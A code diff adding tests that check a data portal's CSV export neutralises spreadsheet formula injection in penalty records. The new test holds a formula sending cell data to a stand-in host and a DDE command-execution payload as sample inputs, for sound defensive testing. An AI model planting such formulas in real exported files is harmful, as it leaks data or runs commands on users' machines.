@@ -20,6 +20,7 @@ from hypothesis import strategies as st
 from catalog import load_catalog
 from portal import PublicTable, Role
 from portal.files import datapackage, write_datapackage, write_tables
+from publishers import neutralise
 
 ENTRY = load_catalog()["administrative-penalty"]
 TABLE = PublicTable(ENTRY)
@@ -162,6 +163,20 @@ def test_any_text_survives_the_csv_and_ndjson(values: list[tuple[str, str]]) -> 
         data = files.parts[Role.CSV][0].path.read_bytes().decode("utf-8-sig")
         lines = files.parts[Role.NDJSON][0].path.read_text("utf-8").splitlines()
     rows = list(csv.DictReader(io.StringIO(data, newline="")))
-    assert [(r["违法事实"], r["处罚内容"]) for r in rows] == values
+    # formula-like cells carry OWASP's leading quote in CSV (issue 15); NDJSON is verbatim
+    assert [(r["违法事实"], r["处罚内容"]) for r in rows] == [
+        (neutralise(a), neutralise(b)) for a, b in values
+    ]
     objects = [json.loads(line) for line in lines]
     assert [(o["violation_facts"], o["penalty_content"]) for o in objects] == values
+
+
+def test_formulas_are_neutralised_in_the_csv_files() -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    views = [_view(1, violation_facts=formula, penalty_content="-cmd|' /C calc'!A0")]
+    with write_tables(TABLE, views, names=_names) as files:
+        data = files.parts[Role.CSV][0].path.read_bytes().decode("utf-8-sig")
+        line = files.parts[Role.NDJSON][0].path.read_text("utf-8")
+    row = next(csv.DictReader(io.StringIO(data, newline="")))
+    assert row["违法事实"] == "'" + formula and row["处罚内容"] == "'-cmd|' /C calc'!A0"
+    assert json.loads(line)["violation_facts"] == formula
